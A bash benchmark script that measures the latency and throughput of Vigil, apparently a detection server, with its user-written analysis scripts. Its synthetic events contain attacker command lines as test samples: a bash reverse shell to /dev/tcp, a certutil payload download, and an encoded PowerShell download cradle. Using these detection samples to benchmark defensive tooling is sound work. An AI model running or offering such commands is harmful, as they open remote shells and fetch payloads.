#!/usr/bin/env bash
# User-script benchmark. Prints a Markdown table for docs/benchmarks.md.
#
#   bench/scripts.sh [SECONDS] [EVENTS]
#
# 1. Latency of POST /api/v1/analyze with 1, 10 and 50 scripts loaded (copies of the shipped
#    examples, cycling through them), measured with `hey` at 200 requests/s for SECONDS
#    (default 20) on a process event that several scripts inspect, after a 3 s warm-up.
# 2. Pipeline throughput with 20 scripts: EVENTS (default 200000) mixed process/network/file
#    events sent through the bulk API; events/s until every event was analyzed, read from
#    the analyzer histogram count in /metrics.
# 3. Side by side, 10 copies of one detection (encoded PowerShell) at the same rate: the
#    seed-000 server's way (bench/baseline/seed_analysis_server.py: FastAPI + uvicorn, a
#    module per script, a queue and a thread per script per event) running
#    scripts/examples/python/powershell_encoded.py, Vigil running that same Python file in
#    its Python runtime, and Vigil running scripts/examples/encoded_powershell.rhai.
set -euo pipefail
cd "$(dirname "$0")/.."
SECS=${1:-20}
EVENTS=${2:-200000}
export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-$HOME/.cache/vigil/target}"
command -v hey >/dev/null || apt-get install -y -q hey >/dev/null
VENV="$HOME/.cache/vigil/bench-venv"
if [ ! -x "$VENV/bin/uvicorn" ]; then
  python3 -m venv "$VENV" && "$VENV/bin/pip" install -q fastapi uvicorn >&2
fi
cargo build --release -q -p vigil
VIGIL="$CARGO_TARGET_DIR/release/vigil"
WORK=$(mktemp -d)
trap 'kill $(jobs -p) 2>/dev/null || true; rm -rf "$WORK"' EXIT

start() {
  VIGIL_SCRIPTS__PYTHON__ENABLED=true VIGIL_SCRIPTS__DEFAULT_TIMEOUT_MS=1000 RUST_LOG=error "$VIGIL" serve --data-dir "$WORK/data-$1" --listen 127.0.0.1:0 > "$WORK/out-$1" 2>&1 &
  PID=$!
  for _ in $(seq 100); do grep -q "listening on" "$WORK/out-$1" 2>/dev/null && break; sleep 0.1; done
  URL=$(sed -n 's/^vigil: listening on //p' "$WORK/out-$1")
  KEY=$(grep -o 'vgl_[A-Za-z0-9]*' "$WORK/out-$1")
}
stop() { kill -TERM "$PID"; wait "$PID" 2>/dev/null || true; }

upload() { # upload N copies of the examples
  python3 - "$1" "$URL" "$KEY" <<'PY'
import glob, json, re, sys, urllib.request, tomllib
n, url, key = int(sys.argv[1]), sys.argv[2], sys.argv[3]
files = sorted(glob.glob("scripts/examples/*.rhai"))
for i in range(n):
    src = open(files[i % len(files)]).read()
    front = "\n".join(l[3:].lstrip() for l in src.splitlines() if l.startswith("//!"))
    m = tomllib.loads(front)
    body = {"name": f"{m['name']}_{i}", "source": src, "categories": m.get("categories", ["*"]),
            "config": m.get("config", {}), "description": m.get("description", "")}
    req = urllib.request.Request(f"{url}/api/v1/scripts", data=json.dumps(body).encode(),
                                 headers={"Authorization": f"Bearer {key}", "Content-Type": "application/json"})
    urllib.request.urlopen(req).read()
PY
}

cat > "$WORK/event.json" <<'EOF'
{"event.category":"process","host.name":"ws-12","process.name":"powershell.exe","process.parent.name":"winword.exe","process.executable":"C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe","process.command_line":"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"}
EOF

declare -A P50 P99 RPS
for n in 1 10 50; do
  start "a$n"; upload "$n"
  # Warm-up (discarded): the first calls compile each regex and fill each thread's caches.
  hey -z 3s -c 4 -q 50 -m POST -T application/json -H "Authorization: Bearer $KEY" \
    -D "$WORK/event.json" "$URL/api/v1/analyze" > /dev/null
  hey -z "${SECS}s" -c 4 -q 50 -m POST -T application/json -H "Authorization: Bearer $KEY" \
    -D "$WORK/event.json" "$URL/api/v1/analyze" > "$WORK/hey-$n.txt"
  P50[$n]=$(awk '$1=="50%" {printf "%.2f", $3*1000}' "$WORK/hey-$n.txt")
  P99[$n]=$(awk '$1=="99%" {printf "%.2f", $3*1000}' "$WORK/hey-$n.txt")
  RPS[$n]=$(awk '/Requests\/sec/ {printf "%.0f", $2}' "$WORK/hey-$n.txt")
  stop
done

# Side by side: one detection, 10 copies, the same nested event for every server.
cat > "$WORK/nested.json" <<'EOF'
{"event":{"category":["process"]},"host":{"name":"ws-12"},"process":{"name":"powershell.exe","parent":{"name":"winword.exe"},"command_line":"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"}}
EOF
upload_one() { # upload_one FILE LANGUAGE: 10 copies
  python3 - "$1" "$2" "$URL" "$KEY" <<'PY'
import json, sys, urllib.request
path, lang, url, key = sys.argv[1:]
src = open(path).read()
for i in range(10):
    body = {"name": f"side_{i}", "source": src, "categories": ["process"], "language": lang}
    req = urllib.request.Request(f"{url}/api/v1/scripts", data=json.dumps(body).encode(),
                                 headers={"Authorization": f"Bearer {key}", "Content-Type": "application/json"})
    urllib.request.urlopen(req).read()
PY
}
declare -A S50 S99 SRPS
side() { # side NAME URL [hey options]
  local name=$1 url=$2; shift 2
  hey -z 3s -c 4 -q 50 -m POST -T application/json "$@" -D "$WORK/nested.json" "$url" > /dev/null
  hey -z "${SECS}s" -c 4 -q 50 -m POST -T application/json "$@" -D "$WORK/nested.json" "$url" > "$WORK/side-$name.txt"
  S50[$name]=$(awk '$1=="50%" {printf "%.2f", $3*1000}' "$WORK/side-$name.txt")
  S99[$name]=$(awk '$1=="99%" {printf "%.2f", $3*1000}' "$WORK/side-$name.txt")
  SRPS[$name]=$(awk '/Requests\/sec/ {printf "%.0f", $2}' "$WORK/side-$name.txt")
}
mkdir -p "$WORK/pyscripts"; cp scripts/examples/python/powershell_encoded.py "$WORK/pyscripts/"
(cd bench/baseline && BASELINE_SCRIPTS="$WORK/pyscripts" BASELINE_COPIES=10 \
  exec "$VENV/bin/uvicorn" seed_analysis_server:app --host 127.0.0.1 --port 18198 --log-level warning) \
  > "$WORK/out-seed" 2>&1 &
SEED_PID=$!
for _ in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:18198/docs && break; sleep 0.2; done
side seed http://127.0.0.1:18198/analyze
kill "$SEED_PID"; wait "$SEED_PID" 2>/dev/null || true
start side-py; upload_one scripts/examples/python/powershell_encoded.py python
side vigil-py "$URL/api/v1/analyze" -H "Authorization: Bearer $KEY"
stop
start side-rhai; upload_one scripts/examples/encoded_powershell.rhai rhai
side vigil-rhai "$URL/api/v1/analyze" -H "Authorization: Bearer $KEY"
stop

# Pipeline throughput with 20 scripts.
python3 - "$EVENTS" > "$WORK/events.ndjson" <<'PY'
import json, random, sys
random.seed(3)
cmds = ["cmd.exe /c whoami", "powershell -enc SQBFAFgA", "certutil -urlcache -f http://x/a.exe a.exe",
        "/usr/bin/python3 app.py", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "svchost.exe -k netsvcs"]
for i in range(int(sys.argv[1])):
    k = i % 3
    if k == 0:
        e = {"event.category": "process", "host.name": f"h{i%100}", "process.name": "cmd.exe",
             "process.parent.name": "explorer.exe", "process.command_line": random.choice(cmds),
             "process.executable": "C:\\Windows\\System32\\cmd.exe"}
    elif k == 1:
        e = {"event.category": "network", "host.name": f"h{i%100}", "destination.ip": f"93.184.{i%250}.{i%200}",
             "destination.port": random.choice([443, 80, 4444, 8443]), "source.ip": "10.0.0.5"}
    else:
        e = {"event.category": "file", "host.name": f"h{i%100}", "file.path": f"C:\\Temp\\f{i}.dll",
             "file.hash.sha256": "%064x" % i}
    print(json.dumps(e))
PY
start pipe; upload 20
T0=$(date +%s.%N)
"$VIGIL" events send "$WORK/events.ndjson" --url "$URL" --token "$KEY" --batch 5000 --json > "$WORK/send.json"
T_SENT=$(date +%s.%N)
while :; do
  DONE=$(curl -s "$URL/metrics" | awk '/^vigil_analyzer_seconds_count\{analyzer="scripts"\}/ {print $2}')
  [ "${DONE:-0}" -ge "$EVENTS" ] && break
  sleep 0.2
done
T1=$(date +%s.%N)
FINDINGS=$(curl -s "$URL/metrics" | awk '/^vigil_findings_total/ {s+=$2} END {print s+0}')
stop
INGEST=$(python3 -c "import json;print('%.0f' % json.load(open('$WORK/send.json'))['events_per_second'])")
ANALYZED=$(python3 -c "print('%.0f' % ($EVENTS / ($T1 - $T0)))")

cat <<EOF
Machine: $(nproc) cores. \`hey -c 4 -q 50\` (200 req/s) for ${SECS} s per row after a 3 s warm-up; event: a process event several scripts inspect.

| scripts loaded | POST /api/v1/analyze p50 | p99 | achieved req/s |
|---|---|---|---|
| 1 | ${P50[1]} ms | ${P99[1]} ms | ${RPS[1]} |
| 10 | ${P50[10]} ms | **${P99[10]} ms** | ${RPS[10]} |
| 50 | ${P50[50]} ms | ${P99[50]} ms | ${RPS[50]} |

| pipeline with 20 scripts | result |
|---|---|
| events ingested and analyzed, end to end | **${ANALYZED} events/s** (${EVENTS} events, $(python3 -c "print('%.1f' % ($T1 - $T0))") s) |
| ingest rate while analyzing (durable acks) | ${INGEST} events/s |
| findings produced | ${FINDINGS} |

Side by side, 10 copies of the encoded-PowerShell detection, \`hey -c 4 -q 50\` for ${SECS} s:

| server | p50 | p99 | achieved req/s |
|---|---|---|---|
| seed-000 style: FastAPI + uvicorn, Python modules, a thread per script per event | ${S50[seed]} ms | ${S99[seed]} ms | ${SRPS[seed]} |
| Vigil, the same Python file in its Python runtime (worker processes) | ${S50[vigil-py]} ms | ${S99[vigil-py]} ms | ${SRPS[vigil-py]} |
| Vigil, the Rhai version (\`encoded_powershell.rhai\`) | ${S50[vigil-rhai]} ms | ${S99[vigil-rhai]} ms | ${SRPS[vigil-rhai]} |
EOF
